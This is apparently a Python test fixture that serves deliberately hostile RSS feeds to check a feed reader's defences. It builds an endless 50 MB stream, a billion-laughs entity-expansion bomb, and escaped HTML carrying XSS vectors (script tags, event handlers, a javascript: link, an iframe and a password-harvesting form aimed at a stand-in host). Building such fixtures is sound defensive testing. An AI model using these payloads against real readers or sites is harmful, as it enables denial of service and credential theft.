"""Feeds made to hurt whoever reads them."""

from collections.abc import Iterator
from html import escape

from playground.platforms.blogs_feeds import PROLOGUE, RSS
from playground.wire import Response

HEADERS = (("Content-Type", "application/rss+xml; charset=utf-8"),)
HUGE = 50 * 1024 * 1024
HOSTILE = (
    "<p>La linea di Linfa non va.</p><script>alert('rubato')</script>"
    "<img src=x onerror=\"alert('rubato')\"><a href=\"javascript:alert('rubato')\">qui</a>"
    "<svg onload=alert(1)></svg><iframe src='//altrove.example/'></iframe>"
    "<style>body{display:none}</style><form action='//altrove.example/'><input name=password>"
)


def huge() -> Response:
    """A feed of 50 MB that has no end in sight; made while it is read."""
    item = f"<item><title>Rumore</title><description>{'linfa ' * 4000}</description></item>"

    def pieces() -> Iterator[bytes]:
        yield f"{PROLOGUE}{RSS}<channel><title>Senza fine</title>".encode()
        for _ in range(HUGE // len(item) + 1):
            yield item.encode()
        yield b"</channel></rss>"

    return Response(200, HEADERS, stream=pieces)


def expanding_entities() -> Response:
    """Ten entities, each ten times the one before: a kilobyte that wants ten gigabytes."""
    entities = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 11))
    body = (
        f'{PROLOGUE}<!DOCTYPE rss [<!ENTITY l0 "linfa">{entities}]><rss version="2.0"><channel>'
        "<title>&l10;</title><item><title>&l10;</title><description>&l10;</description></item>"
        "</channel></rss>"
    )
    return Response(200, HEADERS, body.encode())


def hostile_html(root: str) -> Response:
    """One post whose text brings scripts, handlers, frames and a form along."""
    body = (
        f"{PROLOGUE}{RSS}<channel><title>Ostile</title><link>{root}</link>"
        f"<item><title>Linfa &lt;script&gt;alert(1)&lt;/script&gt;</title><link>{root}666</link>"
        f'<guid isPermaLink="false">{root}?p=666</guid>'
        f"<description>{escape(HOSTILE)}</description></item></channel></rss>"
    )
    return Response(200, HEADERS, body.encode())
